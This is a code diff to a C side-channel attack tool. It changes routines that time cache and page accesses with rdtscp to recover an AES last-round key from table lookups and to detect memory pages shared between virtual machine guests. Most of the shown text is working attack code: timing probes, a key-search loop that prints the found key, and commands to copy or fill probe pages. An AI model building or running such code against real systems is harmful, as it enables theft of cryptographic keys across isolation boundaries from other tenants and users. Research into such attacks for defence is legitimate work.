@@ -22,9 +22,13 @@
  *				them). A record of each goes to PATH: 16 bytes of ciphertext, the
  *				line, 3 bytes of time. "step I BYTES" as it goes: so many bytes of
  *				the last round key did not change since the step before;
- *				"ok found I KEY", or "ok none N"
+ *				"found I KEY" when it is. One encryption goes before, unmeasured
+ *	attack N LIMIT PATH on	the same, and goes on with what it has counted before
+ *	copy COUNT		probes 0 .. COUNT-1 become copies of the last round's table
  *	fill SEED COUNT		probes 0 .. COUNT-1 get the contents that SEED gives them
  *	write COUNT		writes to each in a random order: COUNT times, in cycles, by probe
+ *	touch COUNT		the same, by a read: the first since the page went out. The most that a
+ *				time can be for those that came in with others
  *	rewrite			the tables' pages are written with what they hold
  */
 #include <sched.h>
@@ -116,6 +120,8 @@ struct hunt {
 	uint8_t best[AES_BLOCK];
 	uint8_t plain[AES_BLOCK], cipher[AES_BLOCK]; /* a known block */
 	struct aes_tables tables;		     /* its own, for trying keys */
+	long n;
+	bool found;
 };
 
 static void count(struct hunt *hunt, const uint8_t cipher[AES_BLOCK], unsigned int line)
@@ -149,7 +155,7 @@ static bool is_key(struct hunt *hunt, uint8_t bytes[AES_BLOCK])
 
 	aes_unroll(hunt->best, bytes);
 	aes_expand(&key, bytes);
-	aes_encrypt(&hunt->tables, &key, hunt->plain, out);
+	aes_encrypt(&hunt->tables, hunt->tables.last, &key, hunt->plain, out);
 	return memcmp(out, hunt->cipher, sizeof(out)) == 0;
 }
 
@@ -187,33 +193,41 @@ static bool measure(const struct guest *guest, struct hunt *hunt, unsigned int l
 	return true;
 }
 
-static void attack(const struct guest *guest, long most, unsigned int limit, const char *path)
+static void show_key(long n, const uint8_t key[AES_BLOCK])
+{
+	printf("found %ld ", n);
+	for (unsigned int i = 0; i < AES_BLOCK; i++)
+		printf("%02x", key[i]);
+	putchar('\n');
+}
+
+static void attack(const struct guest *guest, long most, unsigned int limit, const char *path,
+		   bool on)
 {
 	static struct hunt hunt;
-	uint8_t key[AES_BLOCK];
+	uint8_t key[AES_BLOCK], out[AES_BLOCK];
 	FILE *file = fopen(path, "we");
-	bool all = most < 0, found = false;
-	long n = 0;
+	bool all = most < 0;
+	long end;
 
 	if (!file) {
 		printf("error %s\n", path);
 		return;
 	}
-	memset(&hunt, 0, sizeof(hunt));
-	aes_make_tables(&hunt.tables);
-	for (most = all ? -most : most; n < most && !(found && !all);) {
-		if (!measure(guest, &hunt, limit, file))
-			break;
-		if (++n % STEP)
+	if (!on) {
+		memset(&hunt, 0, sizeof(hunt));
+		aes_make_tables(&hunt.tables);
+	}
+	end = hunt.n + (all ? -most : most);
+	for (bool good = ask(hunt.plain, out); good && hunt.n < end && (all || !hunt.found);) {
+		good = measure(guest, &hunt, limit, file);
+		if (!good || ++hunt.n % STEP)
 			continue;
-		printf("step %ld %u\n", n, guess(&hunt));
-		if (found || !is_key(&hunt, key))
+		printf("step %ld %u\n", hunt.n, guess(&hunt));
+		if (hunt.found || !is_key(&hunt, key))
 			continue;
-		found = true;
-		printf("found %ld ", n);
-		for (unsigned int i = 0; i < AES_BLOCK; i++)
-			printf("%02x", key[i]);
-		putchar('\n');
+		hunt.found = true;
+		show_key(hunt.n, key);
 	}
 	fclose(file);
 	(void)send(sock, "", 1, MSG_NOSIGNAL);
@@ -221,11 +235,26 @@ static void attack(const struct guest *guest, long most, unsigned int limit, con
 
 /* ---- is this page shared? ------------------------------------------------------------------- */
 
-static void write_all(struct guest *guest, uint32_t count_of)
+static uint32_t time_write(volatile uint8_t *byte)
+{
+	unsigned int cpu;
+	uint64_t from, took;
+
+	(void)*byte; /* its translation is there; only the write is new */
+	_mm_lfence();
+	from = __rdtscp(&cpu);
+	*byte ^= 1;
+	_mm_mfence();
+	took = __rdtscp(&cpu) - from;
+	return took > MOST_CYCLES ? MOST_CYCLES : (uint32_t)took;
+}
+
+/* Each probe once, in a random order: what comes back with neighbours tells nothing of the next. */
+static void time_all(struct guest *guest, uint32_t count_of,
+		     uint32_t (*time_one)(volatile uint8_t *byte))
 {
 	static uint32_t order[GUEST_PROBES], cycles[GUEST_PROBES];
 	uint64_t state = 0;
-	unsigned int cpu;
 
 	(void)!getrandom(&state, sizeof(state), 0);
 	for (uint32_t i = 0; i < count_of; i++)
@@ -236,46 +265,41 @@ static void write_all(struct guest *guest, uint32_t count_of)
 		order[k] = order[i - 1];
 		order[i - 1] = was;
 	}
-	for (uint32_t i = 0; i < count_of; i++) {
-		volatile uint8_t *byte = guest->probes + (size_t)order[i] * GUEST_PAGE + 64;
-		uint64_t from, took;
-
-		(void)*byte; /* its translation is there; only the write is new */
-		_mm_lfence();
-		from = __rdtscp(&cpu);
-		*byte ^= 1;
-		_mm_mfence();
-		took = __rdtscp(&cpu) - from;
-		cycles[order[i]] = took > MOST_CYCLES ? MOST_CYCLES : (uint32_t)took;
-	}
+	for (uint32_t i = 0; i < count_of; i++)
+		cycles[order[i]] = time_one(guest->probes + (size_t)order[i] * GUEST_PAGE + 64);
 	for (uint32_t i = 0; i < count_of; i++)
 		printf("%u%c", cycles[i], i + 1 < count_of ? ' ' : '\n');
 }
 
-static uint32_t probes_of(const char *text)
+/* What came in with a neighbour was in the swap file, as that was: no twin for sure. */
+static uint32_t time_read(volatile uint8_t *byte)
 {
-	unsigned long n = strtoul(text, NULL, 10);
-
-	return n < GUEST_PROBES ? (uint32_t)n : GUEST_PROBES;
+	if (guest_is_there((const void *)(uintptr_t)byte))
+		return MOST_CYCLES;
+	return reload((const void *)(uintptr_t)byte);
 }
 
 static void obey(struct guest *guest, const char *line)
 {
-	char path[512], *rest;
+	char path[512], on[3] = "", *rest;
 	unsigned int limit;
 	long most;
 
 	if (!strcmp(line, "calibrate")) {
 		calibrate();
-	} else if (sscanf(line, "attack %ld %u %511s", &most, &limit, path) == 3) {
-		attack(guest, most, limit, path);
+	} else if (sscanf(line, "attack %ld %u %511s %2s", &most, &limit, path, on) >= 3) {
+		attack(guest, most, limit, path, *on);
 	} else if (!strncmp(line, "fill ", 5)) {
 		uint64_t seed = strtoull(line + 5, &rest, 10);
 
-		for (uint32_t i = 0, n = probes_of(rest); i < n; i++)
+		for (uint32_t i = 0, n = guest_probes_of(rest); i < n; i++)
 			guest_fill(guest, seed, i);
 	} else if (!strncmp(line, "write ", 6)) {
-		write_all(guest, probes_of(line + 6));
+		time_all(guest, guest_probes_of(line + 6), time_write);
+	} else if (!strncmp(line, "touch ", 6)) {
+		time_all(guest, guest_probes_of(line + 6), time_read);
+	} else if (!strncmp(line, "copy ", 5)) {
+		guest_copy(guest, guest_probes_of(line + 5));
 	} else if (!strcmp(line, "rewrite")) {
 		guest_rewrite(guest->tables, AES_FILE_BYTES);
 	}
